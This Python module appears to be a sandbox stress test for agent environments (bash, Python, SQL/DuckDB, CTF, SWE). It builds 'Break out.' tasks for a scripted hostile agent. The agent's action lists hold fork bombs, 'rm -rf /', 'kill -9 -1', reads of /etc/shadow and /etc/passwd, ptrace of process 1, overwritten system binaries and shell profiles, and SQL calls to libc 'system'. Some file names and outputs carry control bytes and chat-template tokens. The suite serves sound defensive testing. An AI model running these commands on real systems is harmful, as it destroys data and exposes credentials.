"""Agents that attack from within each of the five environments, by its own kind of action.

    intercode run python --data tasks.json --agent hostile.py:Hostile

`python hostile.py python > tasks.json` writes an environment's tasks, one for each attack.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Mapping, Sequence
from typing import Any

Attacks = Mapping[str, Sequence[str]]

WORDS: Attacks = {
    "words": (
        *("", "\0", "\ud800", "\x1b]0;x\a\x1b[2J", "\r\n\r", "submit\0", "((" * 50_000, "'"),
        *("x" * 2_000_000, "\n" * 100_000),
    ),
}
"""What no environment takes for an action of its own."""

_PTRACE = """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for request in 16, 0x4206, 7, 8:
    print(libc.ptrace(request, 1, 0, 0), os.strerror(ctypes.get_errno()))
libc.ptrace(0, 0, 0, 0)
for name in "mem", "environ", "exe", "root/etc/shadow", "fd/0", "task/1/comm":
    for mode in "rb", "r+b":
        try: print(open("/proc/1/" + name, mode).read(9))
        except OSError as error: print(name, error)
os.kill(os.getpid(), signal.SIGSTOP)
"""
_MULTICAST = """
import os, signal, socket, struct
for _ in range(40):
    if os.fork() == 0: break
held = []
try:
    for number in range(300):
        held.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        for n in range(20):
            group = struct.pack("=II", socket.htonl(0xE1000000 + n), 0x0100007F)
            held[-1].setsockopt(0, 35, group)
except OSError as error: print(error)
signal.sigtimedwait([], 60)
"""
_LOCKS = """
import fcntl, os, signal
for _ in range(40):
    if os.fork() == 0: break
held = []
try:
    while True:
        held.append(os.open("locked", os.O_RDWR | os.O_CREAT))
        fcntl.flock(held[-1], fcntl.LOCK_SH)
except OSError as error: print(error)
signal.sigtimedwait([], 60)
"""


def _replace(body: str) -> str:
    """A program that puts something else in the place of each file below the home and here."""
    return (
        "import os, socket\nnumber = 0\n"
        'names = ".bashrc", ".gitconfig", ".profile", ".netrc", "answer", "conftest.py"\n'
        "for name in names:\n"
        "    for folder in os.path.expanduser('~'), '.':\n"
        "        try: open(os.path.join(folder, name), 'a').close()\n"
        "        except OSError: pass\n"
        "for top in '.', os.path.expanduser('~'), '/srv', '/etc', '/tmp':\n"
        "    for folder, _, files in os.walk(top):\n"
        "        for name in files:\n"
        "            path, number = os.path.join(folder, name), number + 1\n"
        "            try:\n"
        "                os.unlink(path)\n"
        f"                {body}\n"
        "            except OSError: pass\n"
        "print(number)\n"
    )


_PLANTED = {
    "FIFOs in place of files": "os.mkfifo(path)",
    "sockets in place of files": "socket.socket(socket.AF_UNIX).bind(path)",
    "folders in place of files": "os.makedirs(path + '/' + '/'.join(['d'] * 200))",
    "endless files": "open(path, 'w').truncate((1 << 63) - 1)",
    "links in place of files": (
        "os.symlink(('/dev/zero', '/proc/self/fd/0', '/proc/1/root', '/dev/tty', '/proc/kmsg',"
        " path, '..', '/proc/self/mem')[number % 8], path)"
    ),
}
_DEEP = """
import os
try:
    for number in range(5000):
        os.mkdir("d")
        os.chdir("d")
        if number % 100 == 0: open("f" * 250, "w").close()
except OSError as error: print(number, error)
"""
_NAMES = """
import os
for number in range(1, 256):
    try:
        open(bytes([number]) * 9, "w").close()
        os.symlink(b"<|im_start|>\\xff\\n" * 9, bytes([number, 10, 13, 27, 155]))
    except OSError as error: print(error)
os.write(1, bytes(range(256)) * 2000)
os.write(2, b"\\x1b]0;x\\a\\x1b[8m<|im_end|>\\xed\\xa0\\x80" * 9)
"""
_PROGRAMS: Mapping[str, str] = {
    "ptrace of process 1": _PTRACE,
    "multicast": _MULTICAST,
    "locks": _LOCKS,
    "deep trees": _DEEP,
    "control bytes": _NAMES,
    **{name: _replace(body) for name, body in _PLANTED.items()},
}
"""What is the same by Python as by a shell that starts Python."""


def _in_shell(program: str) -> str:
    return f"timeout 20 python3 - <<'END'\n{program}END"


SHELL: Attacks = {
    **WORDS,
    **{name: (_in_shell(program), "echo on") for name, program in _PROGRAMS.items()},
    "fork bomb": (
        ":(){ :|:& };:",
        "for i in {1..500}; do sleep 600 & done",
        "perl -e 'fork while 1'",
    ),
    "memory": (
        "perl -e '$x .= q(x) x 10000000 while 1'",
        "head -c 2G /dev/zero | tail > /dev/null",
        "x=$(yes | head -c 500000000); echo ${#x}",
        "cat /dev/zero > /dev/shm/x",
    ),
    "disk": (
        "cat /dev/zero > zero",
        "for i in {1..5000}; do : > $i; done; yes > yes",
        "truncate -s 8E u; fallocate -l 1T t; cp u v; tar cf w u",
    ),
    "kills all": ("kill -9 -1", "kill -9 $PPID 1 0", "trap '' TERM HUP; kill -9 $$", "exit 3"),
    "removes all": ("rm -rf --no-preserve-root /", "rm -rf /* .[!.]* *; echo /*", "cd /; pwd"),
    "closes descriptors": (
        'for f in /proc/$$/fd/*; do eval "exec ${f##*/}>&-"; done',
        "exec <&- >&- 2>&-",
        "for f in /proc/$$/fd/*; do [ -w $f ] && head -c 9999 /dev/urandom > $f; done",
        "ulimit -n 0; ulimit -f 0; ulimit -v 1; ls",
    ),
    "endless output": (
        "yes",
        "cat /dev/urandom",
        "while :; do printf '\\e[2J\\a\\0'; done",
        "(while :; do echo later; done) & disown; echo now",
    ),
    "stopped processes": (
        "sleep 600 & kill -STOP $!; (sleep 1; kill -STOP -1) & disown",
        "kill -STOP $$",
        "setsid -f sh -c 'kill -STOP $$'; kill -STOP -1",
    ),
    "chmod 000": ("chmod 000 / . ..", "chmod -R 000 /* . 2> /dev/null", "ls /", "chmod 0 /proc"),
    "links where no program is left": (
        "for n in {1..9}; do ln -s answer link$n; ln -s calc.py link$n.py; done",
        "rm -rf /usr/bin/{readlink,xargs,sh,bash,git,env,python3*} /bin/sh /lib64; rm -rf /usr",
    ),
    "writes on": (
        "(while :; do date > x; mv x answer; rm -rf .git; mkdir .git; done) 2> /dev/null & disown",
        "setsid -f sh -c 'while :; do mkdir -p a/b/c; mv a e; rm -rf e; done' 2> /dev/null",
    ),
    "programs in place of ours": (
        "for n in git bash sh cat test python3 ls tar; do printf '#!/bin/sh\\nwhile :; do :; done'"
        " > /usr/bin/$n; printf '#!/bin/sh\\nexec sleep 600' > /bin/$n; done",
        "for n in git bash python3; do mkdir -p ~/bin; ln -sf /dev/zero ~/bin/$n; done",
        "printf 'sleep 600\\n' | tee ~/.bashrc ~/.bash_profile ~/.profile /etc/profile > /dev/null",
    ),
}
PYTHON: Attacks = {
    **WORDS,
    **{name: (program, "print('on')") for name, program in _PROGRAMS.items()},
    "fork bomb": (
        "import os\nwhile True: os.fork()",
        "import threading\nwhile True: threading.Thread(target=threading.Event().wait).start()",
        "import os\nfor _ in range(99):\n    if os.fork() == 0: continue",
    ),
    "memory": (
        "held = []\nwhile True: held.append(bytearray(1 << 20))",
        "'x' * (1 << 50)",
        "held = 9 ** 9 ** 9",
        "def f(): f()\nimport sys, threading\nsys.setrecursionlimit(10 ** 9)\nf()",
    ),
    "disk": (
        "file = open('zero', 'wb')\nwhile True: file.write(bytes(1 << 20))",
        "for n in range(9999): open(str(n), 'w').close()",
    ),
    "kills all": (
        "import os, signal\nos.kill(-1, 9)",
        "os.kill(1, 9)",
        "import os\nos.kill(os.getppid(), 9)\nos.kill(os.getpid(), 9)",
        "import os\nos._exit(0)",
        "raise SystemExit(7)",
        "import os\nos.abort()",
        "import ctypes\nctypes.string_at(8)",
    ),
    "removes all": (
        "import shutil\nshutil.rmtree('/', ignore_errors=True)",
        "import os, sys\nfor path in sys.path: print(os.path.exists(path))",
    ),
    "closes descriptors": (
        "import os\nos.closerange(0, 4096)",
        "import os\nfor fd in range(256):\n    try: os.write(fd, bytes(range(256)) * 99)\n"
        "    except OSError: pass",
        "import os\nfor fd in range(256):\n    try: os.dup2(os.open('/dev/zero', 2), fd)\n"
        "    except OSError: pass",
    ),
    "endless output": (
        "while True: print('x' * 9999)",
        "import sys\nwhile True: sys.stderr.write('\\ud800\\x1b[2J\\0')",
        "import threading, os\n"
        "def on():\n    while True: os.write(1, b'later')\n"
        "threading.Thread(target=on, daemon=True).start()",
    ),
    "stopped processes": (
        "import os, signal\nos.fork() or os.kill(os.getpid(), signal.SIGSTOP)",
        "import os, signal\nos.kill(-1, signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)",
        "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nwhile True: pass",
    ),
    "chmod 000": (
        "import os\nfor path in '.', '..', '/', '/tmp', '/proc':\n    try: os.chmod(path, 0)\n"
        "    except OSError as error: print(error)",
        "open('x', 'w')",
    ),
    "words of Python": (
        "import builtins\nfor name in dir(builtins):\n    try: setattr(builtins, name, None)\n"
        "    except Exception: pass",
        "import sys\nsys.modules.clear()\nsys.stdout = sys.stderr = sys.stdin = None",
        "import sys, gc\nsys.settrace(lambda *a: 1 / 0)\ngc.set_threshold(1)\nsys.meta_path = [1]",
        "def add(a, b): return 1",
    ),
    "values": (
        "class Odd:\n    def __repr__(self):\n        while True: pass\nOdd()",
        "class Odd(str):\n    def __repr__(self): return 7\nOdd()",
        "deep = []\nfor _ in range(10 ** 6): deep = [deep]\ndeep",
        "10 ** 5_000_000",
        "class Any:\n    def __getattr__(self, name): return self\n    def __call__(self, *a): "
        "return self\n    def __eq__(self, other): return True\nadd = Any()",
    ),
    "frames": (
        "import gc, sys\nframe = sys._getframe()\nwhile frame:\n    frame.f_globals.clear()\n"
        "    frame = frame.f_back",
        "import gc\nfor it in gc.get_objects():\n    try: it.clear()\n    except Exception: pass",
        "import ctypes\nctypes.memset(id(None), 0, 64)",
    ),
    "never ends": (
        "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "def add(a, b):\n    while True: pass",
    ),
}
_ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c)"
SQL: Attacks = {
    **WORDS,
    "never ends": (
        f"{_ENDLESS} SELECT count(*) FROM c",
        f"SELECT count(*) FROM {', '.join(f'fruit f{n}' for n in range(60))}",
        f"SELECT '{'a' * 40_000}' LIKE '{'%a' * 20_000}b'",
    ),
    "huge results": (
        f"{_ENDLESS} SELECT x, hex(randomblob(1000)) FROM c",
        "SELECT zeroblob(1000000000)",
        "SELECT printf('%.*c', 2000000000, 'x')",
        f"{_ENDLESS} SELECT group_concat(x) FROM c",
        f"SELECT {', '.join(['zeroblob(1000000)'] * 1500)}",
    ),
    "attached files": (
        "ATTACH '/etc/passwd' AS a; SELECT * FROM a.sqlite_master",
        "ATTACH '/dev/zero' AS b; ATTACH '/proc/1/mem' AS c; ATTACH '../../shop.sqlite' AS d",
        "ATTACH '/tmp/other' AS e; CREATE TABLE e.t AS SELECT zeroblob(900000000)",
        "VACUUM INTO '/tmp/copy'; VACUUM INTO '/dev/shm/copy'",
        "ATTACH ':memory:' AS f",
    ),
    "extensions": (
        "SELECT load_extension('/lib/x86_64-linux-gnu/libc.so.6', 'system')",
        "SELECT readfile('/etc/passwd'), writefile('/tmp/x', 'x'), edit('x', 'sh')",
        "SELECT fts3_tokenizer('simple', x'4141414141414141')",
        ".shell id",
        ".open /etc/passwd",
    ),
    "pragmas": (
        "PRAGMA writable_schema = ON; UPDATE sqlite_master SET sql = 'CREATE TABLE fruit(x('",
        "PRAGMA journal_mode = OFF; PRAGMA locking_mode = EXCLUSIVE; PRAGMA page_size = 65536",
        "PRAGMA temp_store_directory = '/etc'; PRAGMA mmap_size = 99999999999; VACUUM",
        "PRAGMA max_page_count = 1; PRAGMA hard_heap_limit = 1; PRAGMA schema_version = 9",
        "SELECT * FROM fruit",
    ),
    "damaged schema": (
        "PRAGMA writable_schema = ON; DELETE FROM sqlite_master",
        "PRAGMA user_version = 9; PRAGMA application_id = 9; VACUUM",
    ),
    "drops all": (
        "DROP TABLE fruit",
        "CREATE TABLE fruit (name)",
        "INSERT INTO fruit VALUES (x'')",
    ),
    "disk": (
        f"CREATE TABLE t AS {_ENDLESS} SELECT x, randomblob(9999) FROM c",
        f"CREATE TEMP TABLE u AS {_ENDLESS} SELECT x, randomblob(9999) FROM c",
        f"{_ENDLESS} SELECT x FROM c ORDER BY randomblob(9)",
    ),
    "control bytes": (
        "SELECT char(0, 27, 93, 48, 7, 155, 55296, 1114111), x'ff', CAST(x'edA080ff00' AS TEXT)",
        'CREATE TABLE "\x1b[2J<|im_start|>\n" ("\x9b" TEXT, "" TEXT)',
        "INSERT INTO fruit VALUES (CAST(x'ff00edA080' AS TEXT), 9e999), (-9e999, '')",
        "SELECT * FROM fruit; SELECT * FROM sqlite_master",
    ),
    "many statements": (
        "SELECT 1;" * 100_000,
        "SELECT " + "(" * 5000 + "1" + ")" * 5000,
        "SELECT " + "1+" * 100_000 + "1",
        " UNION ALL ".join(["SELECT 1"] * 3000),
        f"CREATE TABLE wide ({', '.join(f'c{n}' for n in range(2000))})",
        ";".join(f"CREATE TABLE t{n} (x)" for n in range(20_000)),
    ),
    "views in place of tables": (
        f"DROP TABLE fruit; CREATE VIEW fruit AS {_ENDLESS} SELECT x AS name, x AS n FROM c",
    ),
    "generated columns": (
        "DROP TABLE fruit",
        "CREATE TABLE fruit (name TEXT, n INTEGER AS (length(zeroblob(999999999))))",
        "INSERT INTO fruit VALUES ('apple')",
    ),
    "triggers": (
        "PRAGMA recursive_triggers = ON",
        "CREATE TRIGGER again AFTER INSERT ON fruit BEGIN INSERT INTO fruit VALUES ('x', 1); END",
        "INSERT INTO fruit VALUES ('x', 1)",
        f"CREATE TRIGGER late BEFORE UPDATE ON fruit BEGIN {_ENDLESS} SELECT x FROM c; END",
        "UPDATE fruit SET n = 0",
    ),
    "transactions": (
        "BEGIN EXCLUSIVE; DELETE FROM fruit",
        ";".join(f"SAVEPOINT s{n}" for n in range(5000)),
        "ROLLBACK; ROLLBACK; COMMIT; END; BEGIN IMMEDIATE",
    ),
    "virtual tables": (
        "CREATE VIRTUAL TABLE f USING fts5(x); INSERT INTO f VALUES ('a')",
        "CREATE VIRTUAL TABLE g USING csv(filename='/etc/passwd')",
        "CREATE VIRTUAL TABLE h USING dbstat; SELECT * FROM pragma_database_list, dbstat",
        "SELECT * FROM generate_series(1, 1000000000)",
        "PRAGMA writable_schema = ON; UPDATE f_content SET c0 = zeroblob(99); DELETE FROM f_data",
        "SELECT * FROM f WHERE f MATCH 'a*'",
    ),
    "DuckDB's own": (
        "COPY (SELECT 1) TO '/etc/x'; SELECT * FROM read_text('/etc/passwd')",
        "SELECT count(*) FROM read_csv('/dev/zero'); SELECT * FROM glob('/**')",
        "INSTALL httpfs; LOAD httpfs; SET enable_external_access = true",
        "SET memory_limit = '1TB'; SET threads = 4096; SET temp_directory = '/'; CHECKPOINT",
        "SELECT count(*) FROM range(1000000000000) a, range(1000000) b",
        "CREATE TABLE t AS SELECT repeat('x', 10000) AS x FROM range(10000000)",
        "SELECT list(x) FROM range(10000000000) t(x)",
        "EXPORT DATABASE '/tmp/e'; ATTACH '/tmp/f' AS f; PRAGMA enable_profiling",
    ),
    "JSON": (
        f"SELECT json('{'[' * 100_000}')",
        f"SELECT json_extract('{'[' * 900}{']' * 900}', '$'), json_valid('{'{' * 9999}')",
    ),
}
ATTACKS: Mapping[str, Attacks] = {
    "bash": SHELL,
    "ctf": SHELL,
    "swe": SHELL,
    "python": PYTHON,
    "sql": SQL,
}
"""Environment → its attacks."""
FIELDS: Mapping[str, Mapping[str, object]] = {
    "bash": {
        "gold": "echo right > answer; echo right",
        "files": {"answer": "wrong\n", "data/a.txt": "a\n"},
    },
    "bash, verified": {
        "verification": "grep -qx right answer && [ -e data/a.txt ]",
        "files": {"answer": "wrong\n", "data/a.txt": "a\n"},
    },
    "ctf": {"gold": "flag{neither_here_nor_there}", "files": {"answer": "wrong\n"}},
    "python": {
        "gold": "def add(a, b): return a + b",
        "tests": ["assert add(1, 2) == 3", "assert add(2, 2) == 4", "import module"],
        "files": {"module.py": "x = 1\n", "answer": "wrong\n"},
    },
    "sql": {"gold": "UPDATE fruit SET n = n + 1", "db": "shop"},
}
"""Kind of task → its fields beside id, query and tags. Those of SWE are the caller's."""


class Hostile:
    """An agent that carries out the attack that its task names, then submits."""

    def __init__(self, task: Any) -> None:
        self.actions = iter((*ATTACKS[task.tags[0]][task.tags[1]], "submit"))

    def act(self, observation: str, history: Sequence[Any]) -> str:
        """Return the attack's next action."""
        return next(self.actions, "skip")


def tasks(env: str) -> list[dict[str, object]]:
    """Return the tasks of an environment: of each kind one for each attack."""
    kinds = [kind for kind in FIELDS if kind.partition(",")[0] == env] or [env]
    return [
        {
            "task_id": f"{kind}: {name}",
            "query": "Break out.",
            "tags": [env, name],
            **FIELDS.get(kind, {}),
        }
        for kind in kinds
        for name in ATTACKS[env]
    ]


if __name__ == "__main__":
    json.dump(tasks(sys.argv[1]), sys.stdout)
